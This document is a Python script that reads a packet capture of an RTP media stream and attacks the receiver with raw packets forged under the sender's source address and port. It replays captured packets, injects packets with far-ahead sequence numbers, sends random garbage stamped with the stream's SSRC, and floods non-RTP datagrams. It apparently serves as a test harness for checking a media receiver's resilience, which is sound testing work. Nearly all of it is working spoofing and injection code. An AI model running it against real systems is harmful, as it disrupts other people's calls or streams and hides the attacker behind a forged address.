#!/usr/bin/env python3
"""A stranger attacks a stream it can see: reads a capture of the stream (pcap from tcpdump -w), then sends
to its receiver, under the sender's own source address and port (a raw socket: root), the captured packets
again (replays), packets of the stream's SSRC far ahead in sequence, RTP-looking garbage of that SSRC, and
datagrams that are not RTP at all. Prints one JSON object: what it saw and what it sent.

Usage: media_spoof.py CAPTURE.pcap SENDER_ADDRESS RECEIVER_ADDRESS"""
import collections
import json
import random
import socket
import struct
import sys
import time


def datagrams(path, source, destination):
    """(source port, destination port, payload) of every UDP datagram from source to destination."""
    data = open(path, "rb").read()
    magic = struct.unpack("<I", data[:4])[0]
    endian = "<" if magic in (0xA1B2C3D4, 0xA1B23C4D) else ">"
    linktype = struct.unpack(endian + "I", data[20:24])[0]
    offset, found = 24, []
    while offset + 16 <= len(data):
        length = struct.unpack(endian + "I", data[offset + 8:offset + 12])[0]
        frame = data[offset + 16:offset + 16 + length]
        offset += 16 + length
        if linktype == 1:  # Ethernet
            if len(frame) < 14 or frame[12:14] != b"\x08\x00":
                continue
            packet = frame[14:]
        elif linktype == 113:  # Linux cooked
            if len(frame) < 16 or frame[14:16] != b"\x08\x00":
                continue
            packet = frame[16:]
        else:
            continue
        if len(packet) < 20 or packet[9] != 17:
            continue
        header = (packet[0] & 0x0F) * 4
        if socket.inet_ntoa(packet[12:16]) != source or socket.inet_ntoa(packet[16:20]) != destination:
            continue
        sport, dport, ulen = struct.unpack(">HHH", packet[header:header + 6])
        found.append((sport, dport, packet[header + 8:header + ulen]))
    return found


def send(raw, source, destination, sport, dport, payload, ident):
    udp = struct.pack(">HHHH", sport, dport, 8 + len(payload), 0) + payload  # checksum 0: none (IPv4)
    ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), ident & 0xFFFF, 0, 64, 17, 0,
                     socket.inet_aton(source), socket.inet_aton(destination))
    raw.sendto(ip + udp, (destination, 0))


def main():
    capture, source, destination = sys.argv[1:4]
    seen = datagrams(capture, source, destination)
    rtp = [d for d in seen if len(d[2]) >= 12 and d[2][0] >> 6 == 2]
    if not rtp:
        print(json.dumps({"captured": len(seen), "error": "no RTP datagram in the capture"}))
        return
    (sport, dport), _ = collections.Counter((d[0], d[1]) for d in rtp).most_common(1)[0]
    stream = [d[2] for d in rtp if (d[0], d[1]) == (sport, dport)]
    ssrc = stream[0][8:12]
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    raw.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    rng = random.Random(7)
    sent = collections.Counter()
    ident = 0

    def out(payload, kind):
        nonlocal ident
        ident += 1
        send(raw, source, destination, sport, dport, payload, ident)
        sent[kind] += 1
        if ident % 50 == 0:
            time.sleep(0.005)  # a flood, but one the receiver's socket buffer can take

    for payload in stream:  # replays, in order
        out(payload, "replayed")
    last = stream[-1]
    sequence = struct.unpack(">H", last[2:4])[0]
    for step in range(200):  # far ahead: the next 200 of every 100th sequence number, re-stamped
        ahead = (sequence + 1000 + 100 * step) & 0xFFFF
        out(last[:2] + struct.pack(">H", ahead) + last[4:12] + bytes(rng.getrandbits(8) for _ in range(len(last) - 12)), "ahead")
    for _ in range(500):  # RTP-looking garbage of the stream's SSRC
        body = bytes(rng.getrandbits(8) for _ in range(rng.randint(0, 1200)))
        out(bytes([0x80, rng.getrandbits(8) & 0x7F]) + bytes(rng.getrandbits(8) for _ in range(6)) + ssrc + body, "garbage")
    for _ in range(100):  # not RTP at all
        out(bytes([rng.getrandbits(6)]) + bytes(rng.getrandbits(8) for _ in range(rng.randint(0, 300))), "notRTP")
    print(json.dumps({"captured": len(stream), "sourcePort": sport, "destinationPort": dport,
                      "ssrc": ssrc.hex(), "sent": dict(sent)}))


if __name__ == "__main__":
    main()
